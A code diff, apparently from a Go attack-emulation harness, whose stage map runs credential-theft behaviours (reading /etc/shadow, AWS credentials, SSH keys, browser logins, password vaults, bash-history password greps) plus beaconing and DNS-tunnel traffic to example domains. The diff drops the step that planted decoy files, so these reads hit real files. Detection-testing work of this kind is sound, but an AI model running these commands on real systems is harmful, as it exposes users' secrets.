@@ -18,14 +18,13 @@ import (
 )
 
 var moreBodies = map[string]func(*stage) error{
-	"shadow-read":  reads("cat", "/etc/shadow"),
-	"memory-read":  onSleeper("dump"),
-	"secret-files": afterwards(adds("/root/.aws/credentials", "[default]\naws_access_key_id = made-up\n"), reads("cat", "/root/.aws/credentials")),
-	"private-keys": afterwards(adds("/root/.ssh/id_ed25519", "made up\n"), reads("tar", "-cf", "keys.tar", "/root/.ssh/id_ed25519")),
-	"history-searched": afterwards(adds("/root/.bash_history", "mysql -u root --password=made-up\n"),
-		reads("grep", "-iE", "password|passwd|token", "/root/.bash_history")),
-	"browser-store":  afterwards(adds("/root/.mozilla/firefox/x.default/logins.json", "{}\n"), reads("cp", "/root/.mozilla/firefox/x.default/logins.json", "logins.json")),
-	"password-store": afterwards(adds("/root/vault.kdbx", "made up\n"), reads("cp", "/root/vault.kdbx", "v")),
+	"shadow-read":      reads("cat", "/etc/shadow"),
+	"memory-read":      onSleeper("dump"),
+	"secret-files":     reads("cat", "/root/.aws/credentials"),
+	"private-keys":     reads("tar", "-cf", "keys.tar", "/root/.ssh/id_ed25519"),
+	"history-searched": reads("grep", "-iE", "password|passwd|token", "/root/.bash_history"),
+	"browser-store":    reads("cp", "/root/.mozilla/firefox/x.default/logins.json", "logins.json"),
+	"password-store":   reads("cp", "/root/vault.kdbx", "v"),
 	"ticket-cache": func(s *stage) error {
 		path := "/tmp/krb5cc_" + filepath.Base(s.dir)
 		if err := note(s.dir, entry{Mark: s.mark, Undo: "remove", Path: path}); err != nil {
@@ -84,8 +83,8 @@ var moreBodies = map[string]func(*stage) error{
 		}
 		return s.run("find", from, "-name", "*.txt", "-exec", "cp", "{}", to, ";")
 	},
-	"web-beacon": byImplant("/dev/shm", peerWeb, netPeer+":80", "dial", 4),
-	"dns-tunnel": func(s *stage) error { return s.ask(60, func() string { return madeUp(60) + ".t.example.com" }) },
+	"web-beacon":      byImplant("/dev/shm", peerWeb, netPeer+":80", "dial", 4),
+	"dns-tunnel":      func(s *stage) error { return s.ask(60, func() string { return madeUp(60) + ".t.example.com" }) },
 	"made-up-domains": func(s *stage) error { return s.ask(40, func() string { return madeUp(16) + ".example" }) },
 	"raw-protocol":    sendRaw,
 	"odd-port":        byImplant("/var/tmp", peerSink, netPeer+":31337", "dial", 1),
@@ -189,8 +188,6 @@ func all(do ...func(*stage) error) func(*stage) error {
 		return nil
 	}
 }
-
-func afterwards(first, then func(*stage) error) func(*stage) error { return all(first, then) }
 
 // byImplant has a copy of this program in an odd place talk to the other side.
 func byImplant(parent, kind, address, part string, times int) func(*stage) error {
